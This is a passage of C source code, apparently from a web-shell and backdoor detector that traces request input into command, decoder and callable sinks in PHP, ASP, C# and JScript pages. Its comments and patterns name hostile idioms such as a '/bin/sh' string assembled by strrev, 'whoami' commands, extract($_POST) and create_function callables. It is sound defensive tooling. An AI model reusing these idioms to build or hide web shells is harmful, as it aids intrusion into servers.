                (tok_is(c, &c->st[a], TK_IDENT, "create_function") || tok_is(c, &c->st[a], TK_IDENT, "reflectionfunction") ||
                 (c->st[a].kind == TK_STR && c->st[a].len == 15 && strcasecmp(tok_text(c, &c->st[a]), "create_function") == 0))) ||
               lang_php_callable_syntax(c, a, b))) ||
              /* $r = new R: R::__invoke may run its parameter (php_sinks.c) */
              (c->syn == SYN_PHP && c->nwrappers && c->st[a].kind == TK_IDENT && (c->st[a].flags & TF_NEW));
  int socket = c->syn == SYN_PHP && opens_socket(c, a, b);
  int built = c->syn == SYN_PHP && !element && !is_const && !is_arr && !tainted && lang_php_built_value(c, a, b);
  if (compound && !tainted && c->extracted && c->extract_scope == c->scope && !lang_sym_get(c, name, n, 0)) {
    /* extract($_POST); $cmd .= ' 2>&1': the value appended to is the one extract() set */
    t = c->extract_t;
    snprintf(t.src, sizeof t.src, "%.*s (set by %.36s)", (int)(n > 24 ? 24 : n), name, c->extract_t.src);
    tainted = 1;
  }
  sym *s = lang_sym_get(c, name, n, tainted || typed || is_const || is_arr || element || fnval || c->extracted ||
                                        script || webroot || socket || built);
  if (!s) return;
  if (!element && (!compound || built)) s->built = (uint8_t)built;
  if (!compound || script) s->script = (uint8_t)script;
  if (c->syn == SYN_PHP && !compound) s->socket = (uint8_t)socket;
  if (!compound || webroot) s->webroot = (uint8_t)webroot;
  if (script || webroot) c->values |= LV_PATH;
  /* inside an if or a loop the assignment may not happen: taint the
   * variable had stays, and it does not become a constant */
  int conditional = (c->syn == SYN_PHP && c->depth > (c->in_fn ? c->fn_depth : 0)) ||
                    (c->syn != SYN_PHP && c->stmt_cond); /* If c = "" Then c = "whoami" */
  if (!element && (tainted || !conditional || !s->has_taint)) /* as the taint: an if's untainted value leaves both */
    s->dataext = (uint8_t)(tainted && ends_data_ext(c, a, b)),
    s->fixname = (uint8_t)(tainted && c->syn == SYN_PHP && ends_fixed_name(c, a, b)); /* only a tainted path needs them */
  if (conditional && s->has_taint && !tainted) return;
  /* Session("a") = "" or Session("b") = prefix & x: one key of the session or
   * application store does not change what the request put under another */
  if (c->syn != SYN_PHP && s->has_taint && !(s->t.flags & TA_WEAK) && is_op(c, ti + 1, "(") &&
      (tok_is(c, tg, TK_IDENT, "session") || tok_is(c, tg, TK_IDENT, "application")) &&
      (!tainted || ((s->t.flags & TA_PURE) && !(t.flags & TA_PURE))))
    return;
  if (tainted && c->syn == SYN_PHP && !(t.flags & (TA_PURE | TA_WEAK)) && !compound && !input_heads_command(c, a, b))
    t.flags |= TA_ARGONLY;
  else if (tainted && c->syn == SYN_PHP && c->fn && (t.flags & TA_PARAM) && !compound &&
           !input_heads_command_p(c, a, b, 1))
    t.flags |= TA_ARGONLY; /* function f($dir) { $cmd = sprintf('ls %s', $dir); ... }: f's parameter is an argument */
  /* $a = $_POST; $a['ip'] = $_COOKIE['x']: the array is still the whole request with a field added */
  int whole = element && s->has_taint && s->t.src[0] == '$' && s->t.src[1] == '_' && !strchr(s->t.src, '[');
  if (tainted && !whole) {
    /* $f = 'comp_by_' . $_GET['o']: the request picks one of a family of names (unless an
     * if may have left the variable a taint of another kind) */
    int before = conditional && s->has_taint && !(s->pfx_tag && s->pfx_tag == lang_taint_tag(&s->t));
    /* $view['items'][] = $_GET['h']: the request's value is under that key only, while the array had
     * none before (or one under the same key, or only what an unknown call returned) */
    uint32_t kh = 0;
    int keyed = c->syn == SYN_PHP && element && !compound && ti + 3 < eq && is_op(c, ti + 1, "[") &&
                c->st[ti + 2].kind == TK_STR && !(c->st[ti + 2].flags & TF_INTERP) && is_op(c, ti + 3, "]");
    if (keyed) kh = lang_key_hash(tok_text(c, &c->st[ti + 2]), c->st[ti + 2].len);
    if (keyed && s->has_taint && !(s->tkey_tag && s->tkey_tag == lang_taint_tag(&s->t) && s->tkey_hash == kh) &&
        !(s->t.flags & (TA_CALLED | TA_WEAK)))
      keyed = 0;
    s->t = t, s->has_taint = 1;
    s->tkey_tag = keyed ? lang_taint_tag(&t) : 0, s->tkey_hash = kh;
    s->pfx_tag = c->syn == SYN_PHP && !element && !compound && !before && fixed_prefix(c, a, b) ? lang_taint_tag(&t) : 0;
  }
  else if (!compound && !element && !(c->pass == 2 && typed && s->filled))
    s->has_taint = 0; /* a container made empty here is filled by a call the first pass saw (in a Sub read later) */
  if (element) {
    record_element(c, s, ti, eq, a, b, compound);
    s->has_const = 0;
    return;
  }
  if (is_arr && !compound) {
    if (c->st[a].kind == TK_ARR) {
      carr_builder nb = {.buf = (unsigned char *)(uintptr_t)arr, .len = arrlen};
      lang_sym_set_array(c, s, &nb);
    } else { /* an array variable: its blob is already in persist */
      s->arr_off = (uint32_t)((const char *)arr - c->persist.buf);
      s->arr_len = (uint32_t)arrlen;
      s->has_arr = 1;
      c->values |= LV_CONST | LV_ARR;
    }
  } else {
    s->has_arr = 0;
  }
  if (is_const && c->st[a].kind == TK_STR && ((c->st[a].flags & (TF_JOINED | TF_CONST)) || c->st[a].nchain) &&
      c->st[a].len < 256 && memchr(tok_text(c, &c->st[a]), '/', c->st[a].len) &&
      memmem(tok_text(c, &c->st[a]), c->st[a].len, "/bin/sh", 7))
    c->pcaps->shell = 1; /* a shell's name built from pieces or decoded (strrev('hs/nib/')) */
  if (is_const && c->st[a].kind == TK_STR && ((c->st[a].flags & TF_JOINED) || c->st[a].nchain) && c->st[a].len >= 64)
    note_carried_program(c, tok_text(c, &c->st[a]), c->st[a].len);
  if (is_const && !compound) {
    s->val = c->st[a];
    s->val.off = lang_arena_put(&c->persist, tok_text(c, &c->st[a]), c->st[a].len);
    s->has_const = 1;
    c->values |= LV_CONST;
    lang_sym_noted(c, s);
  } else if (is_const && s->has_const && c->st[a].kind == TK_STR && s->val.kind == TK_STR &&
             (is_op(c, eq, ".=") || is_op(c, eq, "&=") || is_op(c, eq, "+=")) && !(c->syn == SYN_PHP && !is_op(c, eq, ".=")) &&
             c->persist.len < (8u << 20)) { /* $s .= 'al' */
    uint32_t off = lang_arena_put(&c->persist, c->persist.buf + s->val.off, s->val.len);
    lang_arena_append(&c->persist, tok_text(c, &c->st[a]), c->st[a].len);
    s->val.off = off;
    s->val.len += c->st[a].len;
    s->val.flags |= TF_JOINED;
    lang_sym_noted(c, s);
    if (!s->val.nchain && c->st[a].nchain) lang_fold_chain(&s->val, c->st[a].chain, c->st[a].nchain, 0);
  } else {
    s->has_const = 0;
  }
  if (typed) {
    s->type_off = lang_arena_put(&c->persist, type, strlen(type));
    s->type_len = (uint32_t)strlen(type);
    s->has_type = 1;
    c->saw_task_service |= strstr(type, "schedule.service") != NULL; /* Activator.CreateInstance(Type.GetTypeFromProgID(...)) */
  }
  if (c->syn == SYN_PHP && !compound) { /* $f = create_function(...), new ReflectionFunction('assert') */
    char how[64];
    c->probe_param = 0;
    s->callable = fnval ? lang_php_callable(c, a, b, how, sizeof how, s->cchain, &s->ncchain) : NULL;
    s->cparam = s->callable ? c->probe_param : 0;
  }
}

/* while ($code = file_get_contents($url)) ..., if (($f = fopen(...)) !== false):
 * an assignment in parentheses, at the start of a condition. */
static void condition_assignments(lang_ctx *c) {
  for (size_t i = 1; i + 2 < c->nst; i++)
    if (c->st[i].kind == TK_VAR && is_op(c, i - 1, "(") && is_op(c, i + 1, "=")) {
      size_t close = lang_match_close(c, i - 1);
      if (close < c->nst) record_assignment(c, i + 1, close);
    }
}

/* C#: using (var r = new StreamReader(Request.InputStream)) ..., fixed (byte* p = b):
 * the resource declared in the parentheses is an assignment the body reads. */
static void resource_assignment(lang_ctx *c) {
  if (c->nst < 5 || !is_op(c, 1, "(") ||
      !(tok_is(c, &c->st[0], TK_IDENT, "using") || tok_is(c, &c->st[0], TK_IDENT, "fixed")))
    return;
  size_t close = lang_match_close(c, 1);
  for (size_t i = 3; i < close && i < c->nst; i++)
    if (is_op(c, i, "=") && c->st[i - 1].kind == TK_IDENT) {
      record_assignment(c, i, close);
      return;
    }
}

/* define('NAME', 'value') makes a constant. */
static void record_define(lang_ctx *c) {
  if (c->syn != SYN_PHP) return;
  for (size_t i = 0; i + 5 < c->nst; i++)
    if (tok_is(c, &c->st[i], TK_IDENT, "define") && is_op(c, i + 1, "(") && c->st[i + 2].kind == TK_STR &&
        is_op(c, i + 3, ",") && c->st[i + 4].kind == TK_STR && is_op(c, i + 5, ")")) {
      char name[64];
      size_t n = c->st[i + 2].len < sizeof name ? c->st[i + 2].len : sizeof name;
      for (size_t k = 0; k < n; k++) {
        char ch = tok_text(c, &c->st[i + 2])[k];
        name[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
      }
      sym *s = lang_sym_get(c, name, n, 1);
      if (!s) return;
      s->val = c->st[i + 4];
      s->val.off = lang_arena_put(&c->persist, tok_text(c, &c->st[i + 4]), c->st[i + 4].len);
      s->has_const = 1;
      c->values |= LV_CONST;
      lang_sym_noted(c, s);
    }
}

/* [WebMethod] string Run(string cmd) (C#), WebMethodAttribute function
 * Run(cmd : String) (JScript.NET): a web service method's parameters are
 * what the SOAP or JSON request sent. */
static void webmethod_params(lang_ctx *c, size_t name) {
  int web = 0;
  for (size_t i = 0; i < name && !web; i++)
    web = c->st[i].kind == TK_IDENT && (tok_is(c, &c->st[i], TK_IDENT, "webmethod") ||
                                        tok_is(c, &c->st[i], TK_IDENT, "webmethodattribute") ||
                                        tok_is(c, &c->st[i], TK_IDENT, "operationcontract")); /* WCF (.svc) */
  if (!web || !is_op(c, name + 1, "(")) return;
  size_t close = lang_match_close(c, name + 1);
  int typed = 0; /* VB: past "As", the rest is the type (ByVal c As String) */
  for (size_t i = name + 2, last = 0; i <= close && i < c->nst; i++) {
    if (c->st[i].kind == TK_IDENT) {
      if (c->syn == SYN_VB && tok_is(c, &c->st[i], TK_IDENT, "as")) typed = 1;
      if (typed) continue;
      if (!last || !is_op(c, last + 1, ":")) last = i; /* JScript: the name before ':' */
      continue;
    }
    if (!(is_op(c, i, ",") || i == close) || !last) continue;
    const token *p = &c->st[last];
    sym *sy = lang_sym_get(c, tok_text(c, p), p->len, 1);
    if (sy) {
      memset(&sy->t, 0, sizeof sy->t);
      snprintf(sy->t.src, sizeof sy->t.src, "the web method parameter %.40s", tok_text(c, p));
      sy->t.flags = TA_PURE;
      sy->t.line = p->line;
      sy->has_taint = 1;
      sy->has_const = 0;
      if (!c->caps.request) c->caps.request = p->line;
    }
    last = 0;
    typed = 0;
  }
}

/* What the function is worth remembering: 2 when it wraps a sink, returns
 * input or feeds a capability (or is a decoder, a dispatcher...); 1 when it
 * returns a constant or an expression of its parameter (a packer's
 * loader() { return 'ev'.'al'; }); 0 when it only passes a parameter on.
 * Big applications have hundreds of the last two kinds. */
static int wrapper_rank(const wrapper *w) {
  if (w->sink || w->xor || w->returns || w->pcaps || w->built_param || w->call_param || w->glob_param ||
      w->ref_param || w->decoder || w->shape == 3 || w->tbl_len || w->lrun)
    return 2;
  return (w->nretc && !w->retc_bad) || (w->inl_len && !w->inl_bad);
}

/* A function read in the spare slot of a full table (a backdoor's
 * functions after a big application's, in the file it was planted in):
 * kept in place of the last one worth less, else forgotten. */
static void keep_over_full(lang_ctx *c) {
  size_t k = MAX_WRAPPERS;
  int rank = wrapper_rank(&c->wrappers[MAX_WRAPPERS]);
  c->nwrappers = MAX_WRAPPERS;
  if (!rank) return;
  while (k > 0 && wrapper_rank(&c->wrappers[k - 1]) >= rank) k--;
  if (k == 0) return; /* nothing worth less to give way */
  memmove(&c->wrappers[k - 1], &c->wrappers[k], (MAX_WRAPPERS + 1 - k) * sizeof *c->wrappers);
}

/* Function definitions: remembered so a call to one that wraps a sink or
 * an XOR loop counts as that sink or a decryption. */
static void end_function(lang_ctx *c) {
  const wrapper *w = c->fn ? &c->wrappers[c->fn - 1] : NULL;
  if (w && (w->sink || w->xor || w->passes || w->returns || w->pcaps || w->tbl_len || w->inl_len || w->built_param)) {
    /* called before it was defined?  (Not for decoders and dispatchers, which
     * benign code has many of: they are read where the file calls them after
     * their definition, as packers write them.) */
    unsigned bit = lang_name_bit(w->name, strlen(w->name));
    /* (a function that only returns what it is given changes nothing where it was given nothing tainted) */
    int passes_only = w->passes && !w->sink && !w->xor && !w->returns && !w->pcaps && !w->tbl_len && !w->inl_len &&
                      !w->built_param;
    if (lang_bloom_has(c->called_bloom, bit) &&
        (!passes_only || lang_bloom_has(c->called_tainted_bloom, bit)))
      c->late_wrapper = 1;
    /* called from the page itself, not from another function: worth a second pass even without a tainted variable */
    if (w->sink && lang_bloom_has(c->called_top_bloom, bit)) c->late_sink = 1;
    /* a page that hands its input to a walker, writer or runner defined further down (kits and scanners
     * keep their functions at the bottom): the capability is fed only if the call is read again */
    if ((w->pcaps >> PCAP_LIST & 1u) && lang_bloom_has(c->called_top_bloom, bit)) c->late_cap = 1;
  }
  if (w && c->syn == SYN_PHP && lang_php_note_method_wrapper(c, w)) {
    unsigned bit = lang_name_bit(w->name, strlen(w->name));
    if (lang_bloom_has(c->called_method_bloom, bit)) { /* $o->m(...) before it */
      c->late_wrapper = 1;
      if (w->sink) c->late_sink = 1; /* ... a runner: its callers are read again */
    }
  }
  if (w && (w->shape == 3 || w->lrun) && c->syn != SYN_PHP) c->decoders = 1; /* a page decoder: a second pass sees calls made before it */
  if (w && c->fn == (int)c->nwrappers && !w->sink && !w->xor && !w->passes && !w->returns && !w->pcaps && !w->built_param &&
      !w->call_param && !w->glob_param && !w->ref_param &&
      !(w->nretc && !w->retc_bad) && !w->decoder && w->shape != 3 && !w->tbl_len && !(w->inl_len && !w->inl_bad) &&
      !w->lrun)
    c->nwrappers--; /* wraps nothing: forget it */
  if (c->nwrappers > MAX_WRAPPERS) keep_over_full(c);
  c->fn = 0;
  c->in_fn = 0;
  c->scope = 0;
  c->nglobals = 0;
  c->fn_refbits = 0;
}

static void track_functions(lang_ctx *c) {
  const token *last = &c->st[c->nst - 1];
  if (c->syn == SYN_VB && c->nst >= 2 && tok_is(c, &c->st[0], TK_IDENT, "end") &&
      (tok_is(c, &c->st[1], TK_IDENT, "function") || tok_is(c, &c->st[1], TK_IDENT, "sub") ||
       tok_is(c, &c->st[1], TK_IDENT, "property"))) {
    end_function(c);
    return;
  }
  int open = tok_is(c, last, TK_OP, "{"), close = tok_is(c, last, TK_OP, "}");
  if (close) {
    if (c->in_fn && c->depth <= c->fn_depth) {
      if (c->syn == SYN_PHP && c->closure_var[0]) lang_php_closure_end(c); /* $f = function (...) { ... } */
      end_function(c);
    }
    if (c->depth > 0) c->depth--;
    return;
  }
  if (!open && c->syn != SYN_VB) return;
  if (open) c->depth++;
  if (c->in_fn) return;
  /* the name: after `function`/`sub`, or the identifier before the first "(" */
  const token *name = NULL;
  size_t name_at = 0;
  int closure = 0;
  for (size_t i = 0; i + 1 < c->nst; i++) {
    const token *t = &c->st[i];
    if (tok_is(c, t, TK_IDENT, "function") || tok_is(c, t, TK_IDENT, "sub")) {
      if (i > 0 && (tok_is(c, &c->st[i - 1], TK_IDENT, "exit") || tok_is(c, &c->st[i - 1], TK_IDENT, "end"))) return;
      if (c->st[i + 1].kind == TK_IDENT) name = &c->st[i + 1], name_at = i + 1;
      else if (c->syn == SYN_PHP && open && i >= 2 && c->st[0].kind == TK_VAR && is_op(c, 1, "=") && is_op(c, i + 1, "(") &&
               !tok_is(c, &c->st[lang_match_close(c, i + 1) + 1 < c->nst ? lang_match_close(c, i + 1) + 1 : i], TK_IDENT, "use"))
        name = t, name_at = i, closure = 1; /* $f = function (...) {: read as a function, its sink given to $f
                                               (with use (...), read in place: the page's variables are its own) */
      break;
    }
    /* VB: Property Get Name (a class's property, read as obj.Name); Property
     * Let/Set Name(v), run by an assignment obj.Name = x */
    if (c->syn == SYN_VB && tok_is(c, t, TK_IDENT, "property") && i + 2 < c->nst &&
        (tok_is(c, &c->st[i + 1], TK_IDENT, "get") || tok_is(c, &c->st[i + 1], TK_IDENT, "let") ||
         tok_is(c, &c->st[i + 1], TK_IDENT, "set")) &&
        c->st[i + 2].kind == TK_IDENT) {
      if (i > 0 && (tok_is(c, &c->st[i - 1], TK_IDENT, "exit") || tok_is(c, &c->st[i - 1], TK_IDENT, "end"))) return;
      name = &c->st[i + 2], name_at = i + 2;
      break;
    }
    if (c->syn != SYN_PHP && c->syn != SYN_VB && t->kind == TK_IDENT && is_op(c, i + 1, "(") && open) {
      static const char *const kw[] = {"if", "for", "foreach", "while", "switch", "catch", "using", "lock",
                                       "synchronized", "with", "fixed"};
      int ctl = 0;
      for (size_t k = 0; k < sizeof kw / sizeof kw[0]; k++) ctl |= tok_is(c, t, TK_IDENT, kw[k]);
      /* after its return type: a name, a generic's '>' (Class<?> f), an array's ']' (byte[] f) */
      int typed_before = i > 0 && (c->st[i - 1].kind == TK_IDENT || is_op(c, i - 1, ">") || is_op(c, i - 1, ">>") ||
                                   is_op(c, i - 1, "]"));
      if (!ctl && typed_before && !(t->flags & TF_NEW)) name = t;
      break;
    }
  }
  if (!name) return;
  if (c->syn != SYN_PHP) lang_loop_params(c, (size_t)(name - c->st)); /* the names a decode loop may read (loop_run.c) */
  webmethod_params(c, (size_t)(name - c->st));
  if (is_op(c, (size_t)(name - c->st) + 1, "(")) lang_request_params(c, (size_t)(name - c->st) + 1);
  c->njparams = 0;
  if (c->syn == SYN_JAVA && is_op(c, (size_t)(name - c->st) + 1, "(")) lang_jsp_note_params(c, (size_t)(name - c->st) + 1);
  c->in_fn = 1;
  c->fn_depth = c->depth;
  if (c->syn == SYN_PHP) c->scope = ++c->scopes;
  c->nglobals = 0;
  if (c->nwrappers > MAX_WRAPPERS) { /* the spare slot is taken (a function inside one read there) */
    if (c->syn == SYN_PHP) lang_php_params(c, name_at, NULL);
    return;
  }
  wrapper *w = &c->wrappers[c->nwrappers++];
  memset(w, 0, sizeof *w);
  const char *s = tok_text(c, name);
  const char *dot = strrchr(s, '.');
  const char *wn = dot ? dot + 1 : s;
  size_t wl = strlen(wn) < sizeof w->name - 1 ? strlen(wn) : sizeof w->name - 1;
  memcpy(w->name, wn, wl);
  w->name[wl] = '\0';
  note_wrapper_name(c, w);
  c->fn = (int)c->nwrappers;
  c->closure_var[0] = '\0';
  if (closure && c->st[0].len < sizeof c->closure_var) {
    snprintf(w->name, sizeof w->name, "{closure}"); /* no call names it */
    memcpy(c->closure_var, tok_text(c, &c->st[0]), c->st[0].len);
    c->closure_var[c->st[0].len] = '\0';
  }
  if (c->syn == SYN_PHP) lang_php_params(c, name_at, w);
}

/* Is the statement in st run on one branch only: inside an If, loop or
 * Select block (VB), after a single-line If's Then, in a C-like
 * if/else/loop body, braced or not?  Not for PHP, whose taint model is
 * its own. */
static int conditional(const lang_ctx *c) {
  static const char *const ctl[] = {"if", "else", "for", "foreach", "while", "do", "switch", "case", "catch", "try"};
  if (c->syn == SYN_PHP || !c->nst) return 0;
  if (c->syn == SYN_VB) return c->vb_blocks > 0 || (c->then_line && c->st[0].line == c->then_line);
  uint64_t open = c->brace_level >= 64 ? ~(uint64_t)0 : ((uint64_t)1 << c->brace_level) - 1;
  if (c->cond_braces & open) return 1;
  for (size_t k = 0; k < sizeof ctl / sizeof ctl[0]; k++)
    if (tok_is(c, &c->st[0], TK_IDENT, ctl[k]) || (c->st[0].kind == TK_OP && c->nst > 1 &&
                                                 tok_is(c, &c->st[1], TK_IDENT, ctl[k])))
      return 1;
  return 0;
}

/* Opens and closes the blocks conditional() asks about. */
static void track_blocks(lang_ctx *c) {
  static const char *const vb_open[] = {"for", "do", "while", "select"};
  static const char *const vb_close[] = {"next", "loop", "wend"};
  const token *f = &c->st[0], *last = &c->st[c->nst - 1];
  if (c->syn == SYN_VB) {
    if (tok_is(c, f, TK_IDENT, "end") && c->nst >= 2 &&
        (tok_is(c, &c->st[1], TK_IDENT, "if") || tok_is(c, &c->st[1], TK_IDENT, "select"))) {
      if (c->vb_blocks) c->vb_blocks--;
      return;
    }
    for (size_t k = 0; k < sizeof vb_close / sizeof vb_close[0]; k++)
      if (tok_is(c, f, TK_IDENT, vb_close[k]) && c->vb_blocks) c->vb_blocks--;
    for (size_t k = 0; k < sizeof vb_open / sizeof vb_open[0]; k++)
      if (tok_is(c, f, TK_IDENT, vb_open[k])) c->vb_blocks++;
    return;
  }
  if (c->syn == SYN_PHP) return;
  if (tok_is(c, last, TK_OP, "{")) {
    if (c->brace_level < 64) {
      uint64_t bit = (uint64_t)1 << c->brace_level;
      c->cond_braces = conditional(c) ? c->cond_braces | bit : c->cond_braces & ~bit;
    }
    c->brace_level++;
  } else if (tok_is(c, last, TK_OP, "}") && c->brace_level) {
    c->brace_level--;
  }
}

/* PHP's use function A\f as g; (the alias of a function the names table
 * knows) and the calls g(...) of it, read as f(...). */
static void note_fn_alias(lang_ctx *c) {
  if (c->nst != 5 || !tok_is(c, &c->st[1], TK_IDENT, "function") || !tok_is(c, &c->st[3], TK_IDENT, "as") ||
      c->st[2].kind != TK_IDENT || c->st[4].kind != TK_IDENT || c->nfnalias >= sizeof c->fnalias / sizeof c->fnalias[0])
    return;
  const char *f = tok_text(c, &c->st[2]), *slash = strrchr(f, '\\');
  size_t n = c->st[2].len;
  if (slash) n -= (size_t)(slash + 1 - f), f = slash + 1;
  if (!n || n >= sizeof c->fnalias[0].target || c->st[4].len >= sizeof c->fnalias[0].alias || !lang_names_lookup(f, n, SYN_PHP))
    return;
  memcpy(c->fnalias[c->nfnalias].target, f, n);
  c->fnalias[c->nfnalias].target[n] = '\0';
  memcpy(c->fnalias[c->nfnalias].alias, tok_text(c, &c->st[4]), c->st[4].len);
  c->fnalias[c->nfnalias++].alias[c->st[4].len] = '\0';
}

static void fn_aliases(lang_ctx *c) {
  for (size_t i = 0; i + 1 < c->nst; i++) {
    token *t = &c->st[i];
    if (t->kind != TK_IDENT || !is_op(c, i + 1, "(") ||
        (i > 0 && (is_op(c, i - 1, "->") || is_op(c, i - 1, "::") || is_op(c, i - 1, "?->") ||
                   tok_is(c, &c->st[i - 1], TK_IDENT, "function"))))
      continue;
    for (unsigned k = 0; k < c->nfnalias; k++)
      if (strlen(c->fnalias[k].alias) == t->len && memcmp(c->fnalias[k].alias, tok_text(c, t), t->len) == 0) {
        t->off = lang_arena_put(&c->sink.text, c->fnalias[k].target, strlen(c->fnalias[k].target));
        t->len = (uint32_t)strlen(c->fnalias[k].target);
        break;
      }
  }
}

static void process(lang_ctx *c) {
  if (!c->nst) goto out;
  if ((++c->statements & 255) == 0 && c->budget->deadline > 0 && lang_now() > c->budget->deadline) {
    c->budget->exhausted = 1;
    c->budget->why = "time limit";
  }
  if (c->budget->exhausted && c->budget->why && strcmp(c->budget->why, "time limit") == 0) goto out;
  if (c->syn == SYN_PHP && c->st[0].kind == TK_IDENT && c->nst >= 4) {
    if (c->nst == 5 && c->st[0].len == 3 && tok_is(c, &c->st[0], TK_IDENT, "use")) note_fn_alias(c);
    /* const NAME = ..., public const NAME = ...: K::NAME reads it (fold.c) */
    if ((c->st[0].len == 5 && tok_is(c, &c->st[0], TK_IDENT, "const")) || (c->st[1].len == 5 && tok_is(c, &c->st[1], TK_IDENT, "const")))
      c->class_consts = 1;
  }
  if ((c->stmt_marks & SM_CTOR) && c->nst >= 6 && c->syn == SYN_PHP)
    lang_php_objprop_promoted(c); /* function __construct(private $c): $this->c = $c */
  if (c->nfnalias && c->syn == SYN_PHP) fn_aliases(c); /* run(...) after use function system as run */
  if (c->syn == SYN_PHP && c->stmt_member) lang_php_own_methods(c); /* K::d('...') of the file's own K: the call d('...') */
  size_t eq = find_assign(c);
  if (c->syn == SYN_PHP) lang_php_loop_decoder_before(c, eq);
  int loop_ran = c->syn != SYN_PHP && eq == 1 && eq + 2 < c->nst && c->st[0].kind == TK_IDENT && lang_loop_assign(c, eq); /* loop_run.c */
  if (c->syn == SYN_PHP && eq < c->nst && eq > 1 && (is_op(c, 0, "$") || c->st[0].kind == TK_VAR)) {
    lang_php_fold_target(c, eq); /* ${'GLOB'.'ALS'}['x'] = ...: the variable the target names */
    eq = find_assign(c);
  }
  if (c->syn == SYN_PHP && (c->stmt_marks & SM_CUF)) lang_php_callname(c); /* call_user_func('f', x): the call f(x), folded as one */
  int assigns = eq < c->nst;
  int folded = lang_fold_statement(c, assigns ? eq + 1 : 0);
  /* folding never moves an assignment, but it shortens the statement: no
   * assignment is eq == nst again (if (md5($k) == ("a"."b")) ($f = ...)) */
  eq = assigns ? find_assign(c) : c->nst;
  if (c->syn == SYN_PHP && (c->stmt_marks & SM_CUF)) lang_php_callname(c); /* ... and call_user_func($n, x) once $n folded */
  if (c->syn == SYN_PHP && folded) lang_folded_note(c, 0, c->nst); /* what folding built */
#ifdef SS_LANG_TRACE /* make CFLAGS+=-DSS_LANG_TRACE: each statement as the analyzer sees it */
  fprintf(stderr, "[%u.%u]", c->level, c->st[0].line);
  for (size_t i = 0; i < c->nst; i++)
    fprintf(stderr, " %s%.*s", c->st[i].kind == TK_STR ? "'" : c->st[i].kind == TK_ARR ? "ARR" : "",
            c->st[i].kind == TK_ARR ? 0 : (int)(c->st[i].len > 60 ? 60 : c->st[i].len), tok_text(c, &c->st[i]));
  fprintf(stderr, "\n");
#endif
  /* if (($x = input)) ... and ($_ = input) . $_(...): assigned before what follows uses it */
  if (c->syn == SYN_PHP && eq == c->nst && (c->stmt_marks & SM_PASSIGN)) condition_assignments(c);
  if (c->syn == SYN_CSHARP && eq == c->nst) resource_assignment(c);
  if (c->syn == SYN_PHP && eq + 7 < c->nst && c->st[eq + 1].kind == TK_STR && c->st[eq + 1].len >= 6)
    lang_php_sql_assignment(c, eq + 1, c->nst); /* $sql = 'SELECT ' . ...: before the call that runs it */
  if (c->syn == SYN_PHP && (c->cbtail.open || c->cbtail.closed || (c->nst > 4 && is_op(c, 0, "("))))
    lang_php_cbtail_statement(c); /* a closure's call whose arguments follow its body */
  find_sinks(c);
  if (c->syn != SYN_PHP && c->syn != SYN_VB) lang_lambda_statement(c);
  lang_property_statement(c);
  if (c->syn != SYN_PHP) { /* C#, VB and JScript constructs */
    lang_local_fn_statement(c);
    lang_iis_adsi_statement(c);
    lang_memshell_statement(c);
  }
  if (c->syn == SYN_PHP) lang_php_effects(c);
  if (c->syn == SYN_PHP && (c->glob_wrappers || (c->fn && c->nglobals))) lang_php_globals_statement(c);
  if (c->syn == SYN_PHP && (c->stmt_marks & SM_CHMOD)) lang_php_chmod_statement(c);
  if (c->syn == SYN_PHP && ((c->stmt_marks & SM_AMP) || c->nrefs || c->ref_wrappers || c->fn_refbits ||
                            (c->st[0].kind == TK_IDENT && c->st[0].len == 8 && !c->fn)))
    lang_php_refs_statement(c);
  if (c->syn == SYN_PHP) lang_php_note_calls(c);
  if (c->syn == SYN_PHP) lang_php_tools_statement(c);
  if (c->iis_page || c->syn != SYN_PHP) lang_iis_cred_statement(c); /* other pages: IIS:// may be folded */
  if (c->syn == SYN_PHP) lang_php_attack_statement(c);
  if (c->syn == SYN_PHP) lang_php_mailer_statement(c);
  embedded_pages(c);
  lang_caps_statement(c);
  lang_cfml_statement(c);
  lang_flows_statement(c);
  c->stmt_cond = conditional(c);
  record_assignment(c, eq, c->nst);
  if (c->syn == SYN_PHP && c->fn && eq == 1) lang_php_yield_assignment(c, eq); /* $c = yield; */
  if (c->syn == SYN_PHP && (c->choice_var[0] || (eq == 1 && c->nst >= 4)))
    lang_php_choice_statement(c, eq); /* $f = $x ? 'system' : ..., $f = match (...) { ... }, get_defined_functions() */
  if (c->syn == SYN_PHP) lang_php_loop_decoder_after(c);
  else if (loop_ran) lang_loop_assign_after(c);
  record_define(c);
  track_functions(c);
  track_blocks(c);
out:
  if (c->hdr_split) {
    c->hdr_split = 0;
  } else if (c->body_depth && c->depth <= c->body_base) { /* the unbraced bodies end with this statement */
    c->depth = c->depth > c->body_depth ? c->depth - c->body_depth : 0; /* broken code may have closed more */
    c->body_depth = 0;
  }
  c->nst = 0;
  c->script_open = NULL;
  c->stmt_member = 0;
  c->parens = 0;
  c->init_braces = 0;
  c->ebrace = 0;
  c->stmt_marks = 0;
  c->sink.text.len = 0;
}

/* Joins a.b and a().b into one qualified name token; returns 1 if t was merged. */
static int join(lang_ctx *c, const token *t) {
  size_t n = c->nst, back;
  const char *sep;
  if (n >= 2 && is_op(c, n - 1, ".") && c->st[n - 2].kind == TK_IDENT) back = 2, sep = ".";
  else if (n >= 4 && is_op(c, n - 1, ".") && is_op(c, n - 2, ")") && is_op(c, n - 3, "(") &&
           c->st[n - 4].kind == TK_IDENT)
    back = 4, sep = "().";
  else
    return 0;
  token *p = &c->st[n - back];
  uint32_t off = lang_arena_put(&c->sink.text, c->sink.text.buf + p->off, p->len);
  lang_arena_append(&c->sink.text, sep, strlen(sep));
  lang_arena_append(&c->sink.text, c->sink.text.buf + t->off, t->len);
  p->off = off;
  p->len += (uint32_t)strlen(sep) + t->len;
  if (back == 4) p->flags &= (uint8_t)~TF_NEW; /* new A().b(): a call on the new object */
  p->src_end = t->src_end;
  c->nst = n - back + 1;
  return 1;
}

/* Ends the statement being built before token t; ending it empties the
 * text arena, which already holds t's text. */
static void end_statement_before(lang_ctx *c, token *t) {
  char small[64], *keep = t->len < sizeof small ? small : xmalloc(t->len + 1u);
  memcpy(keep, c->sink.text.buf + t->off, t->len);
  process(c);
  t->off = lang_arena_put(&c->sink.text, keep, t->len);
  if (keep != small) free(keep);
}

/* PHP's if, elseif, while, for, foreach and switch: a header in
 * parentheses, then its body.  The parentheses are followed (a for's run
 * across its ';'), and where they close, hdr_close marks the end of the
 * header. */
static void track_header(lang_ctx *c, char op) {
  static const char *const kw[] = {[2] = "if", [3] = "for", [5] = "while", [6] = "elseif", [7] = "foreach"};
  if (op == ')') {
    if (c->hdr_parens && --c->hdr_parens == 0) c->hdr_close = c->nst;
    return;
  }
  if (op != '(') return;
